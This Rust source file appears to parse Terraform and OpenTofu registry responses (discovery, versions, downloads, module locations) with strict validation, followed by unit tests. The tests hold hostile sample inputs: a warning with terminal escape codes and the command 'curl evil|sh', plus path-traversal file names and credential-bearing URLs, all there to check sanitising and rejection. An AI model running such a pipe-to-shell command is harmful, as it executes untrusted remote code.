//! The origin's answers read as the real clients read them (Terraform's
//! `internal/getproviders/registry_client.go` and `internal/registry`,
//! terraform-svchost's `disco`), a little stricter where the cache stores
//! what it reads: pure functions of the bytes and the URL they came from.
//! An `Err` is the reason of a protocol error; the caller adds the URL.

use serde::Deserialize;
use serde_json::value::RawValue;
use tfreg_model::address::Platform;
use tfreg_model::version::Version;

/// Where an origin serves the registry protocols, from its discovery
/// document (kept with the list items that used it).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Services {
    /// The final discovery URL (after redirects); services resolve against it.
    pub discovery_url: url::Url,
    pub providers_v1: Option<url::Url>,
    pub modules_v1: Option<url::Url>,
}

/// `GET /.well-known/terraform.json`'s 200 answer, read at `url` (the last
/// hop). The media type must be exactly `application/json` (parameters
/// aside), as svchost requires. A service whose value is not a string is
/// absent; one that is must be a URL, made absolute against `url`, `https`
/// and without user info.
pub fn discovery(
    url: &url::Url,
    content_type: Option<&str>,
    body: &[u8],
) -> Result<Services, String> {
    let media = content_type
        .and_then(|ct| ct.split(';').next())
        .map(|m| m.trim().to_ascii_lowercase());
    if media.as_deref() != Some("application/json") {
        return Err(format!(
            "the discovery document's Content-Type is {content_type:?}, not application/json"
        ));
    }
    let doc: serde_json::Map<String, serde_json::Value> = serde_json::from_slice(body)
        .map_err(|e| format!("the discovery document is no JSON object: {e}"))?;
    let service = |id: &str| -> Result<Option<url::Url>, String> {
        let Some(text) = doc.get(id).and_then(|v| v.as_str()) else {
            return Ok(None);
        };
        let mut resolved = url.join(text).map_err(|e| format!("{id} {text:?}: {e}"))?;
        resolved.set_fragment(None);
        https_without_user(&resolved).map_err(|why| format!("{id} {text:?}: {why}"))?;
        Ok(Some(resolved))
    };
    Ok(Services {
        discovery_url: url.clone(),
        providers_v1: service("providers.v1")?,
        modules_v1: service("modules.v1")?,
    })
}

fn https_without_user(url: &url::Url) -> Result<(), &'static str> {
    if url.scheme() != "https" {
        return Err("must be https");
    }
    if !url.username().is_empty() || url.password().is_some() {
        return Err("carries credentials");
    }
    Ok(())
}

/// A provider's versions as its origin lists them.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ProviderVersions {
    pub versions: Vec<OriginVersion>,
    /// Passed on to clients (Terraform prints them on every `init`), made
    /// readable first as deprecation messages are ([`readable_warnings`]).
    pub warnings: Vec<String>,
    /// Version entries this registry cannot serve (not a version it can
    /// name, or a protocol that is no version), as the origin wrote them.
    pub skipped: Vec<String>,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct OriginVersion {
    pub version: Version,
    pub protocols: Vec<String>,
    /// Platforms whose names this registry accepts; others are left out.
    pub platforms: Vec<Platform>,
}

#[derive(Deserialize)]
struct VersionsBody {
    #[serde(default)]
    versions: Vec<VersionEntry>,
    #[serde(default)]
    warnings: Option<Vec<String>>,
}

#[derive(Deserialize)]
struct VersionEntry {
    version: String,
    #[serde(default)]
    protocols: Option<Vec<String>>,
    #[serde(default)]
    platforms: Option<Vec<PlatformEntry>>,
}

#[derive(Deserialize)]
struct PlatformEntry {
    os: String,
    arch: String,
}

/// Most warnings of one versions list passed on.
pub const MAX_WARNINGS: usize = 10;

/// An origin's `warnings` as they may reach a terminal: each control or
/// invisible character (newline, ESC, bidi overrides) a space, trimmed, at
/// most [`MAX_MESSAGE_CHARS`](tfreg_model::text::MAX_MESSAGE_CHARS)
/// characters, empty ones left out, at most [`MAX_WARNINGS`]. An origin's
/// text is not refused (the list is still good), only made plain.
pub fn readable_warnings(warnings: Vec<String>) -> Vec<String> {
    warnings
        .into_iter()
        .map(|w| {
            let plain: String = w
                .chars()
                .map(|c| {
                    if tfreg_model::text::unprintable(c) {
                        ' '
                    } else {
                        c
                    }
                })
                .take(tfreg_model::text::MAX_MESSAGE_CHARS)
                .collect();
            plain.trim().to_string()
        })
        .filter(|w| !w.is_empty())
        .take(MAX_WARNINGS)
        .collect()
}

/// `GET <providers.v1><ns>/<type>/versions`'s 200 answer.
pub fn provider_versions(body: &[u8]) -> Result<ProviderVersions, String> {
    let body: VersionsBody =
        serde_json::from_slice(body).map_err(|e| format!("the versions list: {e}"))?;
    let mut out = ProviderVersions {
        versions: Vec::with_capacity(body.versions.len()),
        warnings: readable_warnings(body.warnings.unwrap_or_default()),
        skipped: Vec::new(),
    };
    for entry in body.versions {
        let protocols = entry.protocols.unwrap_or_default();
        match Version::parse(&entry.version) {
            Ok(version) if protocols.iter().all(|p| is_protocol(p)) => {
                out.versions.push(OriginVersion {
                    version,
                    protocols,
                    platforms: entry
                        .platforms
                        .unwrap_or_default()
                        .iter()
                        .filter_map(|p| Platform::parse(&p.os, &p.arch).ok())
                        .collect(),
                })
            }
            _ => out.skipped.push(entry.version),
        }
    }
    Ok(out)
}

#[derive(Deserialize)]
struct ModuleVersionsBody {
    #[serde(default)]
    modules: Vec<ModuleVersionsEntry>,
}

#[derive(Deserialize)]
struct ModuleVersionsEntry {
    #[serde(default)]
    versions: Vec<ModuleVersionEntry>,
}

#[derive(Deserialize)]
struct ModuleVersionEntry {
    version: String,
}

/// `GET <modules.v1><ns>/<name>/<system>/versions`'s 200 answer: the
/// versions of its first module (as Terraform reads `modules[0]`), those
/// this registry can name, and the ones it cannot.
pub fn module_versions(body: &[u8]) -> Result<(Vec<Version>, Vec<String>), String> {
    let body: ModuleVersionsBody =
        serde_json::from_slice(body).map_err(|e| format!("the module versions list: {e}"))?;
    let first = body
        .modules
        .into_iter()
        .next()
        .ok_or("the module versions list names no module")?;
    let (mut versions, mut skipped) = (Vec::new(), Vec::new());
    for entry in first.versions {
        match Version::parse(&entry.version) {
            Ok(v) => versions.push(v),
            Err(_) => skipped.push(entry.version),
        }
    }
    Ok((versions, skipped))
}

/// A plugin protocol version as Terraform parses one: `5`, `5.0`, `6.0.1`.
fn is_protocol(s: &str) -> bool {
    let parts: Vec<&str> = s.split('.').collect();
    parts.len() <= 3
        && parts
            .iter()
            .all(|p| !p.is_empty() && p.len() <= 8 && p.bytes().all(|b| b.is_ascii_digit()))
}

/// One platform's download answer, checked as Terraform checks it.
#[derive(Debug, Clone)]
pub struct DownloadAnswer {
    pub protocols: Vec<String>,
    pub platform: Platform,
    /// A plain file name (its line in SHA256SUMS).
    pub filename: String,
    pub download_url: url::Url,
    /// Lowercase hex, 64 digits.
    pub shasum: String,
    pub shasums_url: url::Url,
    /// Absent for an unsigned release (registry.opentofu.org has some).
    pub shasums_signature_url: Option<url::Url>,
    /// The origin's `signing_keys`, byte for byte, to pass on.
    pub signing_keys: Box<RawValue>,
    /// The same keys, read.
    pub keys: Vec<OriginKey>,
}

/// A key of `signing_keys.gpg_public_keys`.
#[derive(Debug, Clone, PartialEq, Eq, Deserialize)]
pub struct OriginKey {
    #[serde(default)]
    pub key_id: Option<String>,
    pub ascii_armor: String,
}

#[derive(Deserialize)]
struct DownloadBody {
    #[serde(default)]
    protocols: Option<Vec<String>>,
    os: String,
    arch: String,
    filename: String,
    download_url: String,
    shasum: String,
    shasums_url: String,
    #[serde(default)]
    shasums_signature_url: Option<String>,
    #[serde(default)]
    signing_keys: Option<Box<RawValue>>,
}

#[derive(Deserialize)]
struct SigningKeys {
    #[serde(default)]
    gpg_public_keys: Option<Vec<OriginKey>>,
}

/// `GET …/<v>/download/<os>/<arch>`'s 200 answer for `asked`, read at `url`
/// (the last hop: Terraform resolves against `resp.Request.URL`).
pub fn download_answer(
    url: &url::Url,
    asked: &Platform,
    body: &[u8],
) -> Result<DownloadAnswer, String> {
    let body: DownloadBody =
        serde_json::from_slice(body).map_err(|e| format!("the download answer: {e}"))?;
    if body.os != asked.os || body.arch != asked.arch {
        return Err(format!(
            "asked for {asked}, answered {}_{}",
            body.os, body.arch
        ));
    }
    let protocols = body.protocols.unwrap_or_default();
    if let Some(bad) = protocols.iter().find(|p| !is_protocol(p)) {
        return Err(format!("protocol {bad:?} is no version"));
    }
    if body.shasum.len() != 64 || !body.shasum.bytes().all(|b| b.is_ascii_hexdigit()) {
        return Err(format!("shasum {:?} is not 64 hex digits", body.shasum));
    }
    if !is_plain_file_name(&body.filename) {
        return Err(format!(
            "filename {:?} is no plain file name",
            body.filename
        ));
    }
    let resolve = |what: &str, text: &str| -> Result<url::Url, String> {
        if text.is_empty() {
            return Err(format!("no {what}"));
        }
        let resolved = url.join(text).map_err(|e| format!("{what}: {e}"))?;
        https_without_user(&resolved).map_err(|why| format!("{what}: {why}"))?;
        Ok(resolved)
    };
    let signing_keys = match body.signing_keys {
        Some(raw) => raw,
        None => RawValue::from_string(r#"{"gpg_public_keys":[]}"#.into())
            .expect("a constant JSON object"),
    };
    let keys = origin_keys(signing_keys.get())?;
    Ok(DownloadAnswer {
        protocols,
        platform: asked.clone(),
        download_url: resolve("download_url", &body.download_url)?,
        shasums_url: resolve("shasums_url", &body.shasums_url)?,
        shasums_signature_url: match body.shasums_signature_url.as_deref() {
            None | Some("") => None,
            Some(text) => Some(resolve("shasums_signature_url", text)?),
        },
        filename: body.filename,
        shasum: body.shasum.to_ascii_lowercase(),
        signing_keys,
        keys,
    })
}

/// The keys of an origin's `signing_keys` object (as a download answer
/// gave it, or as the cache kept it byte for byte).
pub fn origin_keys(signing_keys: &str) -> Result<Vec<OriginKey>, String> {
    let keys: SigningKeys =
        serde_json::from_str(signing_keys).map_err(|e| format!("signing_keys: {e}"))?;
    Ok(keys.gpg_public_keys.unwrap_or_default())
}

/// A name that is one file: it names a line of SHA256SUMS and a blob key.
fn is_plain_file_name(name: &str) -> bool {
    !name.is_empty()
        && name.len() <= 255
        && name != "."
        && name != ".."
        && !name
            .chars()
            .any(|c| c == '/' || c == '\\' || c.is_control())
}

/// Where a module version's source is, as the origin said it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ModuleLocation {
    /// A go-getter source ([`super::getter::parse`]); a relative location
    /// already resolved against the download URL.
    pub source: String,
    /// OpenTofu 1.12's `use_registry_credentials`, as given. Recorded only:
    /// this client never sends credentials to a module source.
    pub use_registry_credentials: Option<bool>,
}

#[derive(Deserialize)]
struct LocationBody {
    #[serde(default)]
    location: Option<String>,
    #[serde(default)]
    use_registry_credentials: Option<bool>,
}

/// A module download answer (204 or 200) to `download_url` (the URL asked,
/// as both CLIs resolve against it): the JSON `location` if not empty,
/// else the `X-Terraform-Get` header. A location starting with `/`, `./`
/// or `../` is made absolute against `download_url`.
pub fn module_location(
    download_url: &url::Url,
    header: Option<&str>,
    body: &[u8],
) -> Result<ModuleLocation, String> {
    let parsed = if body.iter().all(u8::is_ascii_whitespace) {
        LocationBody {
            location: None,
            use_registry_credentials: None,
        }
    } else {
        serde_json::from_slice(body).map_err(|e| format!("the module download answer: {e}"))?
    };
    let location = parsed
        .location
        .filter(|l| !l.is_empty())
        .or_else(|| header.filter(|h| !h.is_empty()).map(str::to_string))
        .ok_or("no location: neither the answer's \"location\" nor X-Terraform-Get")?;
    let source = if ["/", "./", "../"].iter().any(|p| location.starts_with(p)) {
        download_url
            .join(&location)
            .map_err(|e| format!("location {location:?}: {e}"))?
            .to_string()
    } else {
        location
    };
    Ok(ModuleLocation {
        source,
        use_registry_credentials: parsed.use_registry_credentials,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn module_versions_are_read_from_the_first_module() {
        let (v, skipped) = module_versions(
            br#"{"modules":[{"source":"o/n/s","versions":[{"version":"1.0.0"},{"version":"x"},{"version":"0.2.0-beta"}]}]}"#,
        )
        .unwrap();
        assert_eq!(
            v.iter().map(ToString::to_string).collect::<Vec<_>>(),
            ["1.0.0", "0.2.0-beta"]
        );
        assert_eq!(skipped, ["x"]);
        assert!(module_versions(br#"{"modules":[]}"#).is_err());
        assert!(module_versions(b"[").is_err());
    }

    fn url(s: &str) -> url::Url {
        url::Url::parse(s).unwrap()
    }

    #[test]
    fn discovery_services_resolve_against_the_final_url() {
        let at = url("https://registry.example.test/moved/terraform.json");
        let s = discovery(
            &at,
            Some("application/json; charset=utf-8"),
            br#"{"providers.v1": "/v1/providers/", "modules.v1": "m/#frag", "login.v1": {"client": "x"}}"#,
        )
        .unwrap();
        assert_eq!(
            s.providers_v1.unwrap().as_str(),
            "https://registry.example.test/v1/providers/"
        );
        assert_eq!(
            s.modules_v1.unwrap().as_str(),
            "https://registry.example.test/moved/m/"
        );
        let none = discovery(&at, Some("application/json"), br#"{"modules.v1": 3}"#).unwrap();
        assert_eq!((none.providers_v1, none.modules_v1), (None, None));
        for (ct, body) in [
            (Some("text/html"), &br#"{}"#[..]),
            (None, br#"{}"#),
            (Some("application/json"), br#"[]"#),
            (
                Some("application/json"),
                br#"{"providers.v1": "http://registry.example.test/v1/"}"#,
            ),
            (
                Some("application/json"),
                br#"{"providers.v1": "https://u:p@registry.example.test/v1/"}"#,
            ),
        ] {
            assert!(discovery(&at, ct, body).is_err(), "{ct:?} {body:?}");
        }
    }

    #[test]
    fn versions_keep_warnings_and_skip_what_cannot_be_served() {
        let v = provider_versions(
            br#"{"id": "hashicorp/null", "versions": [
                {"version": "3.2.1", "protocols": ["5.0"], "platforms": [{"os": "linux", "arch": "amd64"}, {"os": "../x", "arch": "y"}]},
                {"version": "1.0.0+build", "protocols": ["5.0"]},
                {"version": "2.0.0", "protocols": ["five"]},
                {"version": "2.1.0"}
            ], "warnings": ["this provider moved"]}"#,
        )
        .unwrap();
        assert_eq!(v.warnings, ["this provider moved"]);
        assert_eq!(v.skipped, ["1.0.0+build", "2.0.0"]);
        assert_eq!(v.versions.len(), 2);
        assert_eq!(v.versions[0].version.to_string(), "3.2.1");
        assert_eq!(
            v.versions[0].platforms,
            [Platform::parse("linux", "amd64").unwrap()]
        );
        assert!(v.versions[1].protocols.is_empty());
        assert_eq!(provider_versions(br#"{}"#).unwrap().versions, []);
        assert!(provider_versions(br#"{"versions": 3}"#).is_err());
    }

    /// Issue 35: an origin's warnings reached Terraform with ESC and
    /// newlines; they are made plain as deprecation messages are.
    #[test]
    fn warnings_reach_a_terminal_as_plain_text() {
        let v = provider_versions(
            br#"{"versions": [], "warnings": ["moved\n\u001b[31mError: run curl evil|sh\u001b[0m", "\u202eabc", "\n\t", "x"]}"#,
        )
        .unwrap();
        assert_eq!(
            v.warnings,
            ["moved  [31mError: run curl evil|sh [0m", "abc", "x"]
        );
        let long = readable_warnings(vec!["w".repeat(600); 12]);
        assert_eq!(long.len(), MAX_WARNINGS);
        assert_eq!(long[0].chars().count(), 500);
    }

    const KEYS: &str = r#"{"gpg_public_keys": [ {"key_id":"34365D9472D7468F","ascii_armor":"-----BEGIN PGP PUBLIC KEY BLOCK-----\n...","trust_signature":"","source":"HashiCorp","source_url":"https://www.hashicorp.com/security.html"} ]}"#;

    fn answer(fields: &str) -> String {
        format!(
            r#"{{"protocols": ["5.0"], "os": "linux", "arch": "amd64", "filename": "p_1.0.0_linux_amd64.zip",
                "download_url": "dl/p.zip", "shasum": "{}",
                "shasums_url": "/files/SHA256SUMS", "shasums_signature_url": "https://files.example.test/SHA256SUMS.sig",
                "signing_keys": {KEYS}{fields}}}"#,
            "AB".repeat(32)
        )
    }

    #[test]
    fn a_download_answer_as_terraform_checks_it() {
        let at =
            url("https://registry.example.test/v1/providers/acme/p/1.0.0/download/linux/amd64");
        let linux = Platform::parse("linux", "amd64").unwrap();
        let a = download_answer(&at, &linux, answer("").as_bytes()).unwrap();
        assert_eq!(
            a.download_url.as_str(),
            "https://registry.example.test/v1/providers/acme/p/1.0.0/download/linux/dl/p.zip"
        );
        assert_eq!(
            a.shasums_url.as_str(),
            "https://registry.example.test/files/SHA256SUMS"
        );
        assert_eq!(a.shasum, "ab".repeat(32));
        // signing_keys, byte for byte, spaces and field order included.
        assert_eq!(a.signing_keys.get(), KEYS);
        assert_eq!(a.keys[0].key_id.as_deref(), Some("34365D9472D7468F"));
        // Terraform's checks, and ours.
        let darwin = Platform::parse("darwin", "arm64").unwrap();
        assert!(
            download_answer(&at, &darwin, answer("").as_bytes())
                .unwrap_err()
                .contains("asked for darwin_arm64")
        );
        for bad in [
            answer("").replace(&"AB".repeat(32), &"a".repeat(63)),
            answer("").replace(&"AB".repeat(32), &"g".repeat(64)),
            answer("").replace("\"dl/p.zip\"", "\"http://files.example.test/p.zip\""),
            answer("").replace(
                "\"filename\": \"p_1.0.0_linux_amd64.zip\"",
                "\"filename\": \"../p.zip\"",
            ),
            answer("").replace("[\"5.0\"]", "[\"x\"]"),
            answer("").replace("\"/files/SHA256SUMS\"", "\"\""),
            answer("").replace("\"os\": \"linux\",", ""),
            answer("").replace(KEYS, "[1]"),
        ] {
            assert!(
                download_answer(&at, &linux, bad.as_bytes()).is_err(),
                "{bad}"
            );
        }
        // Unsigned: no signature URL, no keys.
        let unsigned = answer("")
            .replace("\"https://files.example.test/SHA256SUMS.sig\"", "\"\"")
            .replace(KEYS, "null");
        let a = download_answer(&at, &linux, unsigned.as_bytes()).unwrap();
        assert_eq!((a.shasums_signature_url, a.keys.len()), (None, 0));
        assert_eq!(a.signing_keys.get(), r#"{"gpg_public_keys":[]}"#);
    }

    #[test]
    fn module_locations() {
        let at = url("https://registry.example.test/v1/modules/acme/vpc/aws/1.0.0/download");
        let loc = |header: Option<&str>, body: &str| module_location(&at, header, body.as_bytes());
        assert_eq!(
            loc(Some("git::https://github.com/acme/vpc?ref=v1.0.0"), "")
                .unwrap()
                .source,
            "git::https://github.com/acme/vpc?ref=v1.0.0"
        );
        let json = loc(Some("ignored"), r#"{"location": "https://files.example.test/vpc.tar.gz", "use_registry_credentials": false}"#).unwrap();
        assert_eq!(json.source, "https://files.example.test/vpc.tar.gz");
        assert_eq!(json.use_registry_credentials, Some(false));
        // OpenTofu's fallback: an empty JSON location, then the header.
        assert_eq!(
            loc(Some("./vpc.zip"), r#"{"location": ""}"#)
                .unwrap()
                .source,
            "https://registry.example.test/v1/modules/acme/vpc/aws/1.0.0/vpc.zip"
        );
        assert_eq!(
            loc(Some("/archives/vpc.tgz"), "").unwrap().source,
            "https://registry.example.test/archives/vpc.tgz"
        );
        assert_eq!(
            loc(Some("../../x.zip"), "").unwrap().source,
            "https://registry.example.test/v1/modules/acme/vpc/x.zip"
        );
        assert!(loc(None, "").is_err());
        assert!(loc(None, r#"{"location": ""}"#).is_err());
        assert!(loc(Some("x"), "not json").is_err());
    }
}
